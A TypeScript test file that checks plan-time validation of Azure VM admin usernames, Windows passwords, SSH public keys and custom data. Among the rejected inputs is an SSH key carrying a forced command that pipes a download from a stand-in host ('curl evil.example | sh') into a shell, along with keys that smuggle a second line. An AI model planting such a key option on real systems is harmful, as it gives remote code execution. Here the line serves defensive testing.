// The preflight table for credentials (administrator usernames, Windows passwords, SSH public keys): inputs Azure would
// refuse are refused at plan time with their exact messages, and inputs exactly on a limit pass.
// Not proved here: that Azure still enforces the same limits today. They are copied from Microsoft Learn and the Compute
// REST API as components/vm/credential-rules.ts records them, and Azure can change them without notice. Nor is it
// proved that the components declare what the plan says.
import { describe, expect, it } from "vitest";
import { planVm } from "../../components/internal";
import {
    type Accepted, args, DSA_KEY, ECDSA_KEY, KEYGEN_ED25519_KEY, NOT_ACCEPTED, NOT_ONE_LINE, REFUSED_PASSWORD, type Rejected, RESERVED,
    RSA_1024_KEY, RSA_2047_KEY, RSA_2048_KEY,
} from "../support/fixtures";
import { expectAccepted, expectRefused } from "../support/plan-tables";

/** A key line built from SSH wire-format strings (RFC 4253 section 6.6), for malformed keys ssh-keygen will not make. */
function craftedKey(type: string, ...fields: Buffer[]): string {
    const strings = [Buffer.from(type, "latin1"), ...fields].map((field) => {
        const length = Buffer.alloc(4);
        length.writeUInt32BE(field.length);
        return Buffer.concat([length, field]);
    });
    return `${type} ${Buffer.concat(strings).toString("base64")} crafted@test`;
}

const ED25519_BODY = KEYGEN_ED25519_KEY.split(" ")[1] ?? "";
const ONE_KEY_ONE_LINE = `is not an OpenSSH public key: it holds a line break or another control character, and an entry is one key on one line ("<type> <base64> [comment]") (give the whole line of the .pub file).`;
const OPTIONS = `is not an OpenSSH public key: it starts with authorized_keys options, which the stack does not take ("<type> <base64> [comment]") (give the whole line of the .pub file).`;

const TOO_SHORT = (length: number): string => `[secret] is ${length} characters; Windows passwords must be 8 to 123 (choose another password).`;
const FEW_CLASSES = (classes: number): string => `[secret] has ${classes} of the 4 character classes; Azure needs 3 of lower case, upper case, digit and special character (choose another password).`;

const LINUX_USERNAME_CHARS = (name: string): string => `"${name}" may hold only letters, digits, "-" and "_", and cannot start with a digit or "-" (set adminUsername).`;
const WINDOWS_USERNAME_CHARS = (name: string): string => `"${name}" cannot contain spaces or any of \\ / " [ ] : | < > + = ; , ? * @ & (set adminUsername).`;

const LINUX_USERNAME_65 = `ops_${"a".repeat(61)}`;
const PASSWORD_124 = `Aa1-${"x".repeat(120)}`;

const REJECTED: readonly Rejected[] = [
    // Administrator usernames.
    {
        scenario: "the reserved username root",
        os: "linux", args: { adminUsername: "root" },
        problems: [{ path: "adminUsername", message: RESERVED("root") }],
    },
    {
        scenario: "the reserved username Administrator, capitalised",
        os: "windows", args: { adminUsername: "Administrator" },
        problems: [{ path: "adminUsername", message: RESERVED("Administrator") }],
    },
    {
        scenario: "the reserved username admin, in capitals",
        os: "linux", args: { adminUsername: "ADMIN" },
        problems: [{ path: "adminUsername", message: RESERVED("ADMIN") }],
    },
    {
        scenario: "the reserved username Guest",
        os: "windows", args: { adminUsername: "Guest" },
        problems: [{ path: "adminUsername", message: RESERVED("Guest") }],
    },
    {
        scenario: "the reserved username support_388945a0",
        os: "linux", args: { adminUsername: "support_388945a0" },
        problems: [{ path: "adminUsername", message: RESERVED("support_388945a0") }],
    },
    {
        scenario: "the reserved one-character username a",
        os: "windows", args: { adminUsername: "a" },
        problems: [{ path: "adminUsername", message: RESERVED("a") }],
    },
    {
        scenario: "the reserved username 123",
        os: "linux", args: { adminUsername: "123" },
        problems: [{ path: "adminUsername", message: RESERVED("123") }],
    },
    {
        scenario: "a 21-character Windows username",
        os: "windows", args: { adminUsername: "azureadministrator01x" },
        problems: [{ path: "adminUsername", message: `"azureadministrator01x" is 21 characters; Windows allows 1 to 20 (set adminUsername).` }],
    },
    {
        scenario: "a 65-character Linux username",
        os: "linux", args: { adminUsername: LINUX_USERNAME_65 },
        problems: [{ path: "adminUsername", message: `"${LINUX_USERNAME_65}" is 65 characters; Linux allows 1 to 64 (set adminUsername).` }],
    },
    {
        scenario: "an empty Linux username",
        os: "linux", args: { adminUsername: "" },
        problems: [{ path: "adminUsername", message: `"" is 0 characters; Linux allows 1 to 64 (set adminUsername).` }],
    },
    {
        scenario: "a Windows username with an @",
        os: "windows", args: { adminUsername: "ops@corp" },
        problems: [{ path: "adminUsername", message: WINDOWS_USERNAME_CHARS("ops@corp") }],
    },
    {
        scenario: "a Windows username with a space",
        os: "windows", args: { adminUsername: "ops user" },
        problems: [{ path: "adminUsername", message: WINDOWS_USERNAME_CHARS("ops user") }],
    },
    {
        scenario: "a Windows username with a domain",
        os: "windows", args: { adminUsername: "corp\\ops" },
        problems: [{ path: "adminUsername", message: WINDOWS_USERNAME_CHARS("corp\\ops") }],
    },
    {
        scenario: "a Linux username with a space",
        os: "linux", args: { adminUsername: "deploy user" },
        problems: [{ path: "adminUsername", message: LINUX_USERNAME_CHARS("deploy user") }],
    },
    {
        scenario: "a Linux username starting with a digit",
        os: "linux", args: { adminUsername: "1ops" },
        problems: [{ path: "adminUsername", message: LINUX_USERNAME_CHARS("1ops") }],
    },
    {
        scenario: "a Linux username starting with a hyphen",
        os: "linux", args: { adminUsername: "-ops" },
        problems: [{ path: "adminUsername", message: LINUX_USERNAME_CHARS("-ops") }],
    },
    {
        scenario: "a Linux username with a period inside",
        os: "linux", args: { adminUsername: "ops.admin" },
        problems: [{ path: "adminUsername", message: LINUX_USERNAME_CHARS("ops.admin") }],
    },
    {
        scenario: "a Linux username ending with a period",
        os: "linux", args: { adminUsername: "ops." },
        problems: [{ path: "adminUsername", message: `"ops." cannot end with "." (set adminUsername).` }],
    },
    {
        scenario: "a Windows username ending with a period",
        os: "windows", args: { adminUsername: "ops." },
        problems: [{ path: "adminUsername", message: `"ops." cannot end with "." (set adminUsername).` }],
    },

    // Windows passwords.
    {
        scenario: "a 7-character password",
        os: "windows", args: {}, credentials: { adminPassword: "Tr0ub4!" },
        problems: [{ path: "adminPassword", message: TOO_SHORT(7) }],
    },
    {
        scenario: "a 124-character password",
        os: "windows", args: {}, credentials: { adminPassword: PASSWORD_124 },
        problems: [{ path: "adminPassword", message: TOO_SHORT(124) }],
    },
    {
        scenario: "an empty password",
        os: "windows", args: {}, credentials: { adminPassword: "" },
        problems: [{ path: "adminPassword", message: TOO_SHORT(0) }, { path: "adminPassword", message: FEW_CLASSES(0) }],
    },
    {
        scenario: "a password of lower case and digits only",
        os: "windows", args: {}, credentials: { adminPassword: "correcthorse42" },
        problems: [{ path: "adminPassword", message: FEW_CLASSES(2) }],
    },
    {
        scenario: "a password of lower case only",
        os: "windows", args: {}, credentials: { adminPassword: "correcthorsebattery" },
        problems: [{ path: "adminPassword", message: FEW_CLASSES(1) }],
    },
    {
        scenario: "the refused password abc@123, which is also too short",
        os: "windows", args: {}, credentials: { adminPassword: "abc@123" },
        problems: [{ path: "adminPassword", message: TOO_SHORT(7) }, { path: "adminPassword", message: REFUSED_PASSWORD }],
    },
    {
        scenario: "the refused password iloveyou!, which also has two classes",
        os: "windows", args: {}, credentials: { adminPassword: "iloveyou!" },
        problems: [{ path: "adminPassword", message: FEW_CLASSES(2) }, { path: "adminPassword", message: REFUSED_PASSWORD }],
    },
    ...["P@$$w0rd", "P@ssw0rd", "P@ssword123", "Pa$$word", "pass@word1", "Password!", "Password1", "Password22"].map((password): Rejected => ({
        scenario: `the refused password ${password}`,
        os: "windows", args: {}, credentials: { adminPassword: password },
        problems: [{ path: "adminPassword", message: REFUSED_PASSWORD }],
    })),

    // SSH public keys.
    {
        scenario: "a 1024-bit RSA key",
        os: "linux", args: {}, credentials: { sshPublicKeys: [RSA_1024_KEY] },
        problems: [{ path: "sshPublicKeys[0]", message: "is a 1024-bit RSA key; Azure needs at least 2048 bits (generate one with ssh-keygen -t ed25519)." }],
    },
    {
        scenario: "a 2047-bit RSA key, one bit short",
        os: "linux", args: {}, credentials: { sshPublicKeys: [RSA_2047_KEY] },
        problems: [{ path: "sshPublicKeys[0]", message: "is a 2047-bit RSA key; Azure needs at least 2048 bits (generate one with ssh-keygen -t ed25519)." }],
    },
    {
        scenario: "an ECDSA key",
        os: "linux", args: {}, credentials: { sshPublicKeys: [ECDSA_KEY] },
        problems: [{ path: "sshPublicKeys[0]", message: NOT_ACCEPTED("ecdsa-sha2-nistp256") }],
    },
    {
        scenario: "a DSA key",
        os: "linux", args: {}, credentials: { sshPublicKeys: [DSA_KEY] },
        problems: [{ path: "sshPublicKeys[0]", message: NOT_ACCEPTED("ssh-dss") }],
    },
    {
        scenario: "a bad key after a good one",
        os: "linux", args: {}, credentials: { sshPublicKeys: [KEYGEN_ED25519_KEY, RSA_1024_KEY] },
        problems: [{ path: "sshPublicKeys[1]", message: "is a 1024-bit RSA key; Azure needs at least 2048 bits (generate one with ssh-keygen -t ed25519)." }],
    },
    {
        scenario: "a key line cut after its type",
        os: "linux", args: {}, credentials: { sshPublicKeys: ["ssh-ed25519"] },
        problems: [{ path: "sshPublicKeys[0]", message: NOT_ONE_LINE }],
    },
    {
        scenario: "a key whose body is not base64",
        os: "linux", args: {}, credentials: { sshPublicKeys: ["ssh-rsa not-base64! user@host"] },
        problems: [{ path: "sshPublicKeys[0]", message: NOT_ONE_LINE }],
    },
    {
        scenario: "an empty key",
        os: "linux", args: {}, credentials: { sshPublicKeys: [""] },
        problems: [{ path: "sshPublicKeys[0]", message: NOT_ONE_LINE }],
    },
    {
        scenario: "an ED25519 key labelled ssh-rsa",
        os: "linux", args: {}, credentials: { sshPublicKeys: [`ssh-rsa ${ED25519_BODY} throwaway@test`] },
        problems: [{ path: "sshPublicKeys[0]", message: `is not an OpenSSH public key: its base64 part does not hold a "ssh-rsa" key (give the whole line of the .pub file).` }],
    },
    {
        scenario: "an RSA key cut short",
        os: "linux", args: {}, credentials: { sshPublicKeys: [RSA_2048_KEY.slice(0, 120)] },
        problems: [{ path: "sshPublicKeys[0]", message: `is not an OpenSSH public key: its base64 part does not hold a "ssh-rsa" key (give the whole line of the .pub file).` }],
    },
    {
        scenario: "an RSA key without its modulus",
        os: "linux", args: {}, credentials: { sshPublicKeys: [craftedKey("ssh-rsa", Buffer.from([1, 0, 1]))] },
        problems: [{ path: "sshPublicKeys[0]", message: "is not an OpenSSH public key: its RSA key data is incomplete (give the whole line of the .pub file)." }],
    },
    // One key per entry: the value becomes the VM's keyData and the access extension's ssh_key, which replaces the
    // whole authorized_keys file, so a second line would be a second key, and options would limit or hijack the key.
    {
        scenario: "a second key on a second line",
        os: "linux", args: {}, credentials: { sshPublicKeys: [`${KEYGEN_ED25519_KEY}\n${RSA_2048_KEY}`] },
        problems: [{ path: "sshPublicKeys[0]", message: ONE_KEY_ONE_LINE }],
    },
    {
        scenario: "a DSA key hidden on a line after a good key, behind a carriage return",
        os: "linux", args: {}, credentials: { sshPublicKeys: [`${KEYGEN_ED25519_KEY}\r${DSA_KEY}`] },
        problems: [{ path: "sshPublicKeys[0]", message: ONE_KEY_ONE_LINE }],
    },
    {
        scenario: "a forced command in front of the key",
        os: "linux", args: {}, credentials: { sshPublicKeys: [`command="/usr/bin/curl evil.example | sh" ${KEYGEN_ED25519_KEY}`] },
        problems: [{ path: "sshPublicKeys[0]", message: OPTIONS }],
    },
    {
        scenario: "an option word in front of the key",
        os: "linux", args: {}, credentials: { sshPublicKeys: [`no-pty ${KEYGEN_ED25519_KEY}`] },
        problems: [{ path: "sshPublicKeys[0]", message: OPTIONS }],
    },
    // Custom data: Azure takes at most 65535 bytes (the base64 the component sends is longer; the limit is on the bytes).
    {
        scenario: "custom data of 65536 bytes",
        os: "linux", args: {}, credentials: { customData: `#cloud-config\n${"#".repeat(65536 - 14)}` },
        problems: [{ path: "customData", message: "is 65536 bytes; Azure takes at most 65535 bytes of custom data (move the rest to a script the VM downloads, or compress it: cloud-init reads gzip)." }],
    },
    {
        scenario: "custom data of 32768 two-byte characters (65536 bytes in UTF-8)",
        os: "linux", args: {}, credentials: { customData: "é".repeat(32768) },
        problems: [{ path: "customData", message: "is 65536 bytes; Azure takes at most 65535 bytes of custom data (move the rest to a script the VM downloads, or compress it: cloud-init reads gzip)." }],
    },
    {
        scenario: "an ED25519 key of 31 bytes",
        os: "linux", args: {}, credentials: { sshPublicKeys: [craftedKey("ssh-ed25519", Buffer.alloc(31, 7))] },
        problems: [{ path: "sshPublicKeys[0]", message: "is not an OpenSSH public key: its ED25519 key is not 32 bytes (give the whole line of the .pub file)." }],
    },
];

const LINUX_USERNAME_64 = `ops_${"a".repeat(60)}`;
const PASSWORD_123 = `Aa1-${"x".repeat(119)}`;

const ACCEPTED: readonly Accepted[] = [
    {
        scenario: "a key whose comment has spaces",
        os: "linux", args: {}, credentials: { sshPublicKeys: [`${KEYGEN_ED25519_KEY.split(" ").slice(0, 2).join(" ")} ops team laptop (2026)`] },
    },
    {
        scenario: "custom data of exactly 65535 bytes",
        os: "linux", args: {}, credentials: { customData: `#cloud-config\n${"#".repeat(65535 - 14)}` },
    },
    {
        scenario: "a key line read from its file, with the file's final newline",
        os: "linux", args: {}, credentials: { sshPublicKeys: [`${KEYGEN_ED25519_KEY}\n`] },
    },
    {
        scenario: "a 20-character Windows username",
        os: "windows", args: { adminUsername: "azureadministrator01" },
        resolved: (p) => p.adminUsername, value: "azureadministrator01",
    },
    {
        scenario: "a 64-character Linux username",
        os: "linux", args: { adminUsername: LINUX_USERNAME_64 },
        resolved: (p) => p.adminUsername, value: LINUX_USERNAME_64,
    },
    {
        scenario: "a Linux username that starts with an underscore and mixes case",
        os: "linux", args: { adminUsername: "_Deploy-Bot_01" },
        resolved: (p) => p.adminUsername, value: "_Deploy-Bot_01",
    },
    {
        scenario: "admin3, next to the reserved admin1 and admin2",
        os: "windows", args: { adminUsername: "admin3" },
        resolved: (p) => p.adminUsername, value: "admin3",
    },
    {
        scenario: "an 8-character Windows password",
        os: "windows", args: {}, credentials: { adminPassword: "Tr0ub4d!" },
        resolved: (p) => p.credential, value: "password",
    },
    {
        scenario: "a 123-character Windows password",
        os: "windows", args: {}, credentials: { adminPassword: PASSWORD_123 },
        resolved: (p) => p.credential, value: "password",
    },
    {
        scenario: "a password with exactly three classes and no digit",
        os: "windows", args: {}, credentials: { adminPassword: "Correct-Horse" },
        resolved: (p) => p.credential, value: "password",
    },
    {
        scenario: "a 2048-bit RSA key",
        os: "linux", args: {}, credentials: { sshPublicKeys: [RSA_2048_KEY] },
        resolved: (p) => p.credential, value: "ssh-keys",
    },
    {
        scenario: "an ED25519 key",
        os: "linux", args: {}, credentials: { sshPublicKeys: [KEYGEN_ED25519_KEY] },
        resolved: (p) => p.credential, value: "ssh-keys",
    },
];

describe("GIVEN an input Azure would refuse WHEN the VM is planned", () => {
    it.each<Rejected>(REJECTED)("THEN $scenario is refused with its exact message", expectRefused);

    it("THEN no message repeats a refused password, only [secret]", () => {
        const rows = REJECTED.filter((row) => typeof row.credentials?.adminPassword === "string" && row.credentials.adminPassword !== "");
        const leaks = rows.filter((row) => {
            const printed = JSON.stringify(planVm(row.os, "vm01", args(row.args), row.credentials ?? {}));
            return printed.includes(String(row.credentials?.adminPassword)) || !printed.includes("[secret]");
        });
        expect([rows.length, leaks.map((row) => row.scenario)]).toStrictEqual([14, []]);
    });
});

describe("GIVEN an input exactly on a limit WHEN the VM is planned", () => {
    it.each<Accepted>(ACCEPTED)("THEN $scenario is accepted", expectAccepted);
});

describe("GIVEN a key pasted in a format that is not one OpenSSH line WHEN the VM is planned", () => {
    it.each([
        ["a PuTTY (RFC 4716) public key", "---- BEGIN SSH2 PUBLIC KEY ----\nComment: \"throwaway@test\"\nAAAAC3NzaC1lZDI1NTE5AAAAIGBqesEYBcwhwp4d0mpUdWcv9JcLV4176vpkItbjrvkp\n---- END SSH2 PUBLIC KEY ----"],
        ["an OpenSSH private key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ==\n-----END OPENSSH PRIVATE KEY-----"],
    ])("THEN %s is refused as not one .pub line instead of having its first word called a key type", (_, key) => {
        expect(planVm("linux", "vm01", args({}), { sshPublicKeys: [key] })).toStrictEqual({
            ok: false,
            problems: [{ path: "sshPublicKeys[0]", message: NOT_ONE_LINE }],
        });
    });
});
